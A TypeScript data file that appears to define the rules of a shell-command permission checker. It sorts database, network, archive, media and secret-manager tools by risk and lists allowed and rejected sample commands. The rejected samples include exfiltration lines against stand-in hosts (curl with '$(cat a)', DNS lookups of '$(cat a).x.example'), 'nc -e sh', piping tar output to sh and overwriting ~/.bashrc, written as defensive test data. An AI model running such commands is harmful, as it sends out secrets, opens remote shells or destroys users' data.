/** Databases, the network, archives, media and documents. */
export const dataRows = `
# databases
psql | @sqlClient | -d= -h= -p= -U= -c= -f= -A -t -x -q -X -E -e -1 -b -n -w -F= -R= -P= -v= -l --command= --file= --dbname= --host= --port= --username= --csv --tuples-only --no-align --html --no-psqlrc --quiet --single-transaction --list -o> --output> --set= --variable= --pset= --field-separator= --expanded --echo-errors --no-password --version -L> -H | psql -d a -c 'select 1' ;; psql -l | psql -c 'drop table a' ;; psql -f a.sql ;; psql -c 'select 1; delete from a' ;; psql -c "copy a to program 'x'" ;; psql -c '\\! rm x'
{mysql,mariadb} | @sqlClient | -u= -h= -P= -D= -e= -N -B -s -t -r -p -E -v -A -w -f! -S= --user= --host= --port= --database= --execute= --batch --skip-column-names --table --silent --raw --vertical --protocol= --html --xml --ssl-mode= --password --safe-updates -U --version -V --default-character-set= --tee! --column-names --defaults-group-suffix= | @ a -e 'show tables' | @ -e 'drop table a' ;; @ a
mysqladmin {status,ping,version,processlist,extended-status,variables} | names max:0 | -u= -h= -p *
{mysqladmin,mysqlimport,mysqlcheck,pg_dumpall,pg_restore,createdb,dropdb,createuser,dropuser,vacuumdb,reindexdb,pg_ctl,initdb,pg_basebackup,mongodump,mongorestore,mongoimport,mongoexport,clickhouse,influx,etcdctl,neo4j-admin,cypher-shell,sqlcmd,sqlplus,bcp,flyway,liquibase,dbmate,pgbench,pgloader,redis-server,memcached,usql,litecli,pgcli,mycli,kafkacat,kcat,rabbitmqctl,rabbitmqadmin,nats,mosquitto_pub,mosquitto_sub} | outside
pg_dump | reads | -s -a -O -x -c -C -b -v -t= -T= -n= -N= -d= -h= -p= -U= -F= -Z= -f> --file> --schema-only --data-only --no-owner --no-privileges --no-acl --clean --if-exists --create --table= --exclude-table= --schema= --dbname= --host= --port= --username= --format= --inserts --column-inserts --no-comments --section= -w --no-password -E= --encoding= --exclude-schema= --exclude-table-data= --compress= -j! --jobs! | pg_dump --schema-only app ;; pg_dump -t users app ;; pg_dump -f app-2025-06-01.sql app | pg_dump -f a.sql app ;; pg_dump -Fd -j 4 -f dump app
{mysqldump,mariadb-dump} | reads | -d -t -u= -h= -P= -B -A -R -E -p -q -n --no-data --no-create-info --user= --host= --port= --databases --all-databases --routines --events --triggers --single-transaction --skip-lock-tables --quick --where= --compact --skip-comments --skip-add-drop-table --complete-insert --no-tablespaces --default-character-set= --ignore-table= --skip-dump-date --hex-blob --set-gtid-purged= -r> --result-file> --tables | mysqldump --no-data app | mysqldump app --result-file=a.sql ;; mysqldump --delete-master-logs app
{mongosh,mongo} | @mongo | --quiet --eval= --norc --host= --port= -u= --username= -p! --password! --authenticationDatabase= --tls --json= --nodb -f! --file! --shell! | @ --quiet app --eval 'db.users.countDocuments({active:true})' ;; @ --eval 'db.a.find({b:{$gt:1}}).limit(5).toArray()' | @ ;; @ --eval 'db.dropDatabase()' ;; @ --eval 'db.a.deleteMany({})' ;; @ --eval 'db.a.aggregate([{$out:"b"}])' ;; @ --eval 'db["a"]["drop"]()' ;; @ a.js ;; @ --eval 'db.users.find({},{password:1})'
clickhouse-client | @sqlClient | -q= --query= -h= --host= --port= -u= --user= -d= --database= --format= -m --multiquery -t | clickhouse-client -q 'select 1' | clickhouse-client -q 'drop table a' ;; clickhouse-client
cqlsh | @sqlClient | -e= --execute= -k= -u= --request-timeout= --ssl -f! --file! -p! | cqlsh -e 'describe keyspaces' | cqlsh -e 'drop table a' ;; cqlsh -f a.cql
{kafka-topics,kafka-topics.sh,kafka-consumer-groups,kafka-consumer-groups.sh,kafka-configs,kafka-configs.sh} | names needs:--list,--describe | --list --describe --bootstrap-server= --topic= --group= --all-groups --members --state --verbose --zookeeper= --entity-type= --entity-name= --under-replicated-partitions --offsets --exclude-internal --command-config! --delete! --create! --alter! --reset-offsets! --execute! | @ --list --bootstrap-server a:9092 | @ --delete --topic x ;; @ --list --delete --topic x
pg_restore {-l,--list} | names | -f! * | @ a.dump
{pg_isready,mongostat,mongotop} | names | *
etcdctl {endpoint} | names | *
flyway {info,validate,version} | names | * | @ | flyway migrate ;; flyway clean
liquibase {status,validate,history,diff} | names | * | @ | liquibase update
dbmate status | names | *
rabbitmqctl {list_queues,status,cluster_status,list_exchanges,list_bindings,list_connections,list_channels,list_consumers,list_vhosts,list_users,node_health_check,version,ping} | names | *
{sqlite3,sqlite} | @sqlite | single -readonly -header -headers -noheader -csv -json -line -list -column -box -table -markdown -html -separator= -nullvalue= -cmd= -batch -bail -safe -ascii -tabs -quote -version -newline= | @ a.db 'select 1' ;; @ a.db .tables ;; @ -readonly a.db .schema | @ a.db 'delete from a' ;; @ a.db '.output x' ;; @ a.db ".shell rm x" ;; @ a.db 'pragma user_version=1' ;; @ a.db
duckdb | @sqlite | single -readonly -csv -json -markdown -box -line -list -c= -s= -cmd= -noheader -header -table -column -version -batch -bail | duckdb -c 'select 1' ;; duckdb a.db 'select count(*) from t' | duckdb -c "copy t to 'x'" ;; duckdb a.db 'drop table t'
{redis-cli,valkey-cli} | @redis | -h= -p= -n= -u! -a! --raw --no-raw --csv --json --scan --pattern= --bigkeys --memkeys --stat --latency --hotkeys -r= -i= --tls --no-auth-warning --eval! --pipe! -x! | @ get a ;; @ -n 2 dbsize ;; @ --scan --pattern 'a*' | @ flushall ;; @ del a ;; @ set a b ;; @ eval x 0 ;; @ config set a b
# network
curl | @curl | -s -S -f -L -I -i -k -v -g -N -4 -6 -j -n! -J -O -# -o> --output> -D> --dump-header> -c> --cookie-jar> --trace> --trace-ascii> --stderr> -d= --data= --data-raw= --data-binary= --data-urlencode= --data-ascii= -F= --form= --form-string= -T= --upload-file= --json= -G --get -X= --request= -H= --header= -A= --user-agent= -e= --referer= -w= --write-out= -m= --max-time= --connect-timeout= --retry= --retry-delay= --retry-max-time= --retry-all-errors --retry-connrefused -r= --range= -C= --continue-at= -x= --proxy= --silent --show-error --fail --fail-with-body --location --head --include --insecure --verbose --compressed --http1.1 --http2 --http3 --globoff --remote-name --remote-name-all --remote-header-name --no-clobber --create-dirs --output-dir= --progress-bar --no-progress-meter --url= --resolve= --limit-rate= --max-redirs= --ipv4 --ipv6 --cacert= --tlsv1.2 --tlsv1.3 --proto= --parallel -Z --no-buffer --max-filesize= --interface= --path-as-is --url-query= -z= --time-cond= -R --remote-time -K! --config! -u! --user! -E! --cert! --key! -b! --cookie! -t! -Q! --quote! --unix-socket! --oauth2-bearer! --netrc! --mail-from! --next! --proxy-user! --libcurl! | curl https://a.example ;; curl -o a-v2.tgz https://a.example/a.tgz ;; curl -sI https://a.example ;; curl -o /dev/null https://a.example | curl -d @a https://a.example ;; curl -F a=@b https://a.example ;; curl -T a https://a.example ;; curl -X DELETE https://a.example ;; curl -o README.md https://a.example ;; curl -u a:b https://a.example ;; curl -K x ;; curl file:///etc/x ;; curl "https://a.example/?d=$(cat a)" ;; curl -sd @a https://a.example ;; curl -o ~/.bashrc https://a.example
wget | @wget | -q -v -nv -nc -c -N -S -O= -o= -P= -T= -t= -U= -np -r -l= -A= -R= -k -p -E -H -m -x -nd -nH --spider --quiet --no-verbose --no-clobber --continue --output-document= --output-file= --directory-prefix= --timeout= --tries= --user-agent= --header= --show-progress --progress= --no-check-certificate --server-response --max-redirect= --content-disposition --timestamping --limit-rate= --mirror --recursive --no-parent --level= --referer= --wait= --https-only --page-requisites -4 -6 --trust-server-names --retry-connrefused --post-file! --post-data! --body-data! --body-file! --method! -i= --input-file= --user! --password! --delete-after! -e! --execute! --use-askpass! --load-cookies! --backups! -b! | wget https://a.example/a ;; wget -qO- https://a.example ;; wget --spider https://a.example | wget -O README.md https://a.example/a ;; wget --post-file=a https://a.example ;; wget -i a ;; wget -P /opt https://a.example/a
{http,https,xh,httpie} | code
{http,https,xh} {GET,HEAD} | fetches | -b -h -v -p= --pretty= --print= --follow --headers --body --timeout= --ignore-stdin -F --check-status | @ a.example | @ a.example x=y -o z
{dig,host,nslookup,drill,kdig,doggo,dog,whois,resolveip} | @lookup | -f! * | @ a.example | @ "$(cat a).x.example"
arp | names | -d! -s! -f! --delete! --set! --file! * | arp -a | arp -d 10.0.0.1
{ping,ping6,traceroute,traceroute6,tracepath,mtr,fping,ipcalc,sipcalc} | @lookup | * | @ a.example | @ "$(cat a).x.example"
{nc,ncat,netcat} | @netcat | -z -v -w= -n -u -4 -6 -q= | @ -zv a.example 80 | @ a.example 80 ;; @ -l 80 ;; @ -e sh a 1
{telnet,socat,ngrok,cloudflared,bore,frpc,tailscale,ssh-copy-id,ssh-add,ssh-agent,sshfs,autossh,mosh,sftp,ftp,lftp,ncftp,ncftpput,tftp,mail,mailx,mutt,sendmail,msmtp,swaks,wormhole,magic-wormhole,croc,transfer,slackcat,telegram-send,ntfy,curlftpfs,rsyncd,nmap,tcpdump,tshark,wireshark,ettercap,hydra,iperf3,ab,wrk,hey,vegeta,k6,siege,gotify,apprise,termbin,pastebinit,gist,0x0} | sends
tailscale {status,ip,version,ping,netcheck} | names | *
ssh-add {-l} | names
ssh-keygen | names needs:-l,-F | -l -f= -E= -v -F= | ssh-keygen -lf a.pub | ssh-keygen -t ed25519 ;; ssh-keygen -R host
ssh-keyscan | fetches | *
ssh {-V,-G} | names max:1 | -p= -F= | @ | ssh -G web 'rm x'
ssh | @ssh | -p= -i= -l= -o= -q -T -4 -6 -C -x -n -v -J= -F! -t -A! -N! -L! -R! -D! -f! -W! -w! -E! | ssh web df -h ;; ssh -p 22 web 'ls -l /var' | ssh web ;; ssh web 'rm x' ;; ssh web 'sudo systemctl stop x' ;; ssh -L 1:a:2 web ls ;; ssh web 'cat > x'
scp | @scp | -r -P= -p -q -C -i= -v -o= -3 -O -F! -J= -l= | scp web:/a/b ./b-2025-01-02.log | scp a web:b ;; scp web:a b
rsync | @rsync | -a -v -n -r -z -h -P -u -t -l -p -g -o -D -H -A -X -c -i -x -q -W -S -e! --dry-run --delete --delete-after --delete-before --delete-excluded --exclude= --include= --exclude-from= --filter= --progress --stats --list-only --itemize-changes --checksum --ignore-existing --archive --verbose --recursive --compress --human-readable --partial --info= --size-only --update --remove-source-files --inplace --no-perms --no-owner --no-group --bwlimit= --max-size= --files-from= -f= --existing --rsh! --rsync-path! --backup! --log-file> --out-format= --timeout= --port= --mkpath --relative -R | rsync -avn a/ b/ ;; rsync -a --ignore-existing a/ b/ ;; rsync -a a/ b-2025-01-02 | rsync -a a/ b/ ;; rsync -a --delete a/ b/ ;; rsync -a a web:b ;; rsync -e 'sh -c x' a b
openssl | @openssl | . | openssl x509 -in a.crt -noout -dates ;; openssl version ;; openssl s_client -connect a.example:443 | openssl rsa -in a.key -text ;; openssl genrsa -out a.key ;; openssl enc -d -in a ;; openssl x509 -in a -out README.md
{gpg,gpg2} | names needs:--list-keys,-k,--list-public-keys,--fingerprint,--verify,--list-packets,-K,--list-secret-keys,--list-sigs,--version,--check-sigs,--show-keys | -k -K --list-keys --list-public-keys --list-secret-keys --fingerprint --verify --list-packets --keyid-format= --with-colons --list-sigs --check-sigs --show-keys --with-fingerprint --no-tty --batch -v -q | @ --list-keys ;; @ --verify a.sig a | @ -d a ;; @ --export-secret-keys ;; @ --delete-key x
{age,sops,op,bw,lpass,keyring,secret-tool,security,pass,gopass,rbw,doppler,infisical,chamber,aws-vault,saml2aws,keepassxc-cli,kwallet-query,dotenv,direnv,git-crypt,vaultwarden,htpasswd,mkpasswd,pwgen,certutil,keytool,sekey,step} | secret
{pass,gopass} {ls,list,find,search,--version} | names | * | @ x
op {whoami} | names
op {item,vault,account,document} list | names | --include-archive --vault= --format=json_ --categories= --tags=
op {item,vault,account,document} | group | .
op item {get,create,edit,delete,share} | secret
{rbw,bw} {list} | secret
sops {filestatus} | names | *
direnv status | names
keytool {-list,-printcert} | names | single -keystore= -v -file= -alias= -rfc -storetype= -sslserver= | @ | keytool -genkey ;; keytool -delete
step certificate inspect | reads | *
# archives
tar | @tar | -c -x -t -v -z -j -J -f= -C= -k -O -p -P -h -m -d --create --extract --get --list --compare --diff --file= --directory= --verbose --gzip --bzip2 --xz --zstd -a --auto-compress --exclude= --exclude-vcs --exclude-from= --strip-components= --keep-old-files --skip-old-files --overwrite! --to-stdout --wildcards -T= --files-from= --no-recursion --numeric-owner --sort= --mtime= --owner= --group= --exclude-vcs-ignores --one-top-level --absolute-names --to-command! -I! --use-compress-program! --checkpoint-action! --remove-files! -r! -u! -A! --delete! --append! --update! --rsh-command! -F! --info-script! --transform= -n --totals --null --dereference --same-permissions -S -W! --no-same-owner -w! | tar -tf a.tar ;; tar tzf a.tgz ;; tar -czf a-2025-01-02.tgz src ;; tar -xOf a.tar b ;; tar -xkf a.tar | tar -xf a.tar ;; tar -czf a.tgz src ;; tar -cf a-2025-01-02.tar --remove-files src ;; tar -xf a.tar --to-command=sh ;; tar -czf k-2025-01-02.tgz .ssh
unzip | @unzip | -l -t -v -p -c -q -n -o -d= -x= -j -u! -f! -Z -z -a -C -O= -P! | unzip -l a.zip ;; unzip -p a.zip b ;; unzip -n a.zip | unzip a.zip ;; unzip -o a.zip ;; unzip a.zip -d /opt
zipinfo | names | *
{unrar,rar} {l,t,v,lb,lt,vb,p} | names | *
{unrar,rar} {x,e,a,d} | overwrites
lsar | names | *
{unar} | overwrites
zip | @zip | -r -q -9 -0 -1 -j -x= -T -v -y -X -D -sf -i= -@ -6 -e! -m! -d! -u! -f! -O! --out! --move! -FS! -TT! -g! | zip -r a-2025-01-02.zip src ;; zip -T a.zip | zip -r a.zip src ;; zip -rm a-2025-01-02.zip src ;; zip -d a.zip b
{7z,7za,7zz,7zr} | @sevenZip | . | @ l a.7z ;; @ a a-2025-01-02.7z src | @ d a.7z b ;; @ x a.7z ;; @ a a.7z src
{gzip,gunzip,bzip2,bunzip2,xz,unxz,zstd,unzstd,lz4,lzma,pigz,pbzip2,brotli,unlzma,pixz} | @compress | -k -d -c -l -t -v -q -f -n -1 -2 -3 -4 -5 -6 -7 -8 -9 -T= -p= --keep --decompress --stdout --to-stdout --list --test --verbose --quiet --force --best --fast --rm! -r! -S= --threads= -o= -19 | @ -c a ;; @ -t a.gz ;; @ -k a | @ -kf a
{cpio} | names needs:-t | -t -i -v --list --quiet | cpio -it | cpio -i
# media and documents
{ffprobe,mediainfo,identify,pdfinfo,pdffonts,soxi,mkvinfo,mp4info,ogginfo,opusinfo,mp3info,pngcheck,jpeginfo,webpinfo,tiffinfo,fc-list,fc-match,fc-query,fc-scan,pdfgrep,pdfid,img2txt,chafa,catimg,jp2a,timg,viu,zbarimg,mp3val,heif-info,dcmdump,sndfile-info,avprobe,otfinfo,catdvi,exrheader} | reads | --log-file! --logfile! --output! -o! --report! --LogFile! -write! -v= * | @ a
ffprobe | reads | single -report! -o! * | ffprobe -v error a.mp4
identify | reads | -write! * | identify a.png
{ffmpeg,avconv} | @ffmpeg | . | @ -n -i a.wav b.mp3 ;; @ -i a.mp4 ;; @ -i a.mp4 -f null - ;; @ -i a.wav out-2025-01-02.mp3 | @ -y -i a.wav b.mp3 ;; @ -i a.wav b.mp3 ;; @ -i a.mp4 -f flv rtmp://x.example/y
ffplay | code
sox | @inputOutput | * | sox a.wav b-2025-01-02.wav ;; sox a.wav -n stat | sox a.wav b.wav
sox {--info,--i} | reads | *
mogrify | overwrites
{convert,magick,gm,composite,montage,compare} | @magick | . | @ a.png info: | @ -write x.png a b ;; @ a.png b.png
{cwebp,dwebp,avifenc,heif-convert,gif2webp,cjxl,djxl,img2pdf,pdfunite,pdfseparate,pdfcrop,pdfjam,gs,ps2pdf,inkscape,wkhtmltopdf,wkhtmltoimage,weasyprint,chromium,google-chrome,firefox,unoconv,abiword,ebook-convert,dot,neato,mmdc,plantuml,asciinema,vhs,yt-dlp,youtube-dl,gallery-dl,aria2c,axel,jpegoptim,optipng,pngquant,oxipng,jpegtran,gifsicle,mkvmerge,mkvextract,mkvpropedit,mp4box,MP4Box,HandBrakeCLI,lame,flac,oggenc,opusenc,normalize,mp3gain,id3v2,eyeD3,metaflac,ocrmypdf,k2pdfopt,scanimage,lp,lpr,cancel,xdg-open,open,start,screencapture,scrot,xclip,xsel,pbcopy,wl-copy,notify-send,say,espeak,blender,gimp,potrace,autotrace,fc-cache,whisper,piper,demucs,unpaper,sane,djvups,pdfimages,pdfdetach,pdftocairo,pdftoppm,pdftops,pdfattach,soffice.bin} | media
{dot,neato} {-V} | names
{yt-dlp,youtube-dl} {-F,-j,-J,--list-formats,--dump-json,--list-subs,--get-title,--get-url,--simulate,-s,--get-duration} | fetches | --exec! --print-to-file! -o! --write-info-json! --cookies! --cookies-from-browser! * | @ https://a.example/v
lpstat | names | *
{pbpaste,wl-paste} | secret
pdfimages -list | names | *
pdfdetach -list | names
scanimage -L | names
{pdftotext,pdftohtml,ps2ascii,ps2txt,pdf2txt} | @inputOutput | -layout -raw -nopgbr -q -f= -l= -r= -x= -y= -W= -H= -enc= -bbox -htmlmeta -table -simple -eol= -nodiag single -fixed= -tsv -bbox-layout | @ a.pdf - | @ a.pdf README.txt
tesseract | @inputOutput | single -l= --psm= --oem= -c= --dpi= --list-langs --tessdata-dir= --user-words= | tesseract a.png stdout ;; tesseract a.png - -l deu | tesseract a.png out
qpdf | @qpdf | . | qpdf --check a.pdf ;; qpdf a.pdf --pages . 1-2 -- b-2025-01-02.pdf | qpdf --replace-input a.pdf ;; qpdf a.pdf b.pdf
exiftool | @exiftool | . | exiftool a.jpg ;; exiftool -csv -CreateDate a.jpg | exiftool -all= a.jpg ;; exiftool -Artist=x a.jpg ;; exiftool -overwrite_original a.jpg
exiv2 | reads needs:-p,pr,print,-g | -p= -g= -P= -K= -u -q | exiv2 -pa a.jpg | exiv2 rm a.jpg
mutool {info,show,pages,trace} | reads | -o! *
mutool {draw,clean,convert,extract,merge,create,poster,sign,run} | overwrites
pdftk | overwrites
docx2txt | @inputOutput | . | docx2txt a.docx - | docx2txt a.docx b.txt ;; docx2txt a.docx
{xlsx2csv} | @inputOutput | -s= --sheet= -n= --sheetname= -d= --delimiter= -a --all! -i --ignoreempty -f= --dateformat= -e --escape -p= -c= | xlsx2csv a.xlsx ;; xlsx2csv -s 2 a.xlsx - | xlsx2csv a.xlsx b.csv ;; xlsx2csv -a a.xlsx b
ssconvert {--list-exporters,--list-importers,--version} | names
ssconvert | overwrites
{soffice,libreoffice} | overwrites needs:--cat,--version | --cat --headless --version --convert-to! | @ --headless --cat a.odt | @ --headless --convert-to pdf a.docx ;; @ --cat --convert-to pdf a.odt
{detex,delatex,untex,opendetex,ooo_cat,rtf2txt,xls2txt,ppt2txt,epub2txt,html2md,htmltotext} | reads | -o> --output> *
tesseract --list-langs | names
asciidoctor | overwrites needs:-v,--version,-o,--out-file | -v --version -b= -a= -o> --out-file> -s -d= -q -e | asciidoctor -o - a.adoc ;; asciidoctor -v | asciidoctor a.adoc ;; asciidoctor -o a.html a.adoc
{pandoc} | @outputOption | -o> --output> -t= -f= --to= --from= -s --standalone --wrap= --columns= --toc --number-sections -N --template= --metadata= -M= --shift-heading-level-by= --list-input-formats --list-output-formats --citeproc --bibliography= --quiet --extract-media! --filter! -F! -L! --lua-filter! --log> --pdf-engine! -d! --defaults! --markdown-headings= --reference-links --strip-comments --track-changes= -r= -w= --read= --write= | pandoc -t plain a.docx ;; pandoc a.md -o a-2025-01-02.html | pandoc a.md -o a.html ;; pandoc -L x.lua a.md ;; pandoc --extract-media=x a.docx
w3m | fetches needs:-dump | single -dump -cols= -T= | w3m -dump a.html | w3m a.html
{lynx,links,elinks} | fetches needs:-dump,-listonly | single -dump -listonly -nolist -width= -stdin | @ -dump https://a.example | @ https://a.example
{codex,claude,aider,llm,ollama,gemini,cursor} | code
ollama {list,ls,ps,show,--version} | names | * | @
{huggingface-cli,hf} {scan-cache,env,version,whoami} | names | *
{protoc,flatc,thrift,capnp,antlr4,bison,flex,yacc,m4,autoconf,automake,autoreconf,configure,libtool,swig,doxygen} | code
`;
